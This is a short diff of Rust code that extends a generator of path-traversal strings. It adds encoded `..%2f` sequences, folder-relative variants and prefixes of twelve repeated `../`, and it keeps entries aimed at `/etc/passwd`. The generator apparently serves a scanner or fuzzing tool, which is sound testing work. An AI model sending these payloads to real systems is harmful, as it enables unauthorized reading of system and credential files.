@@ -55,12 +55,16 @@ impl Names {
             let from_root = whole.trim_start_matches('/').to_owned();
             let name = path.file_name().map(|name| name.to_string_lossy().into_owned()).unwrap_or_default();
             let stem = path.file_stem().map(|stem| stem.to_string_lossy().into_owned()).unwrap_or_default();
+            let folder = path.parent().and_then(Path::file_name);
+            let folder = folder.map(|name| name.to_string_lossy().into_owned()).unwrap_or_default();
             plain.extend([
                 format!("../{name}"),
                 whole.clone(),
                 format!("{up}{from_root}"),
                 format!("../../{name}"),
                 format!("../../../{name}"),
+                format!("../{folder}/{name}"),
+                format!("../../{folder}/{name}"),
                 format!("....//{name}"),
                 format!("....//....//{name}"),
                 format!("..././{name}"),
@@ -90,6 +94,9 @@ impl Names {
                 format!("..%2f..%2f{name}"),
                 format!("%2f{}", from_root.replace('/', "%2f")),
                 format!("/{whole}"),
+                format!("..%2f{folder}%2f{name}"),
+                format!("{}{}", "..%2f".repeat(12), from_root.replace('/', "%2f")),
+                format!("{}{from_root}", "../".repeat(12)),
             ]);
         }
         plain.extend([format!("{up}etc/passwd"), "/etc/passwd".to_owned()]);
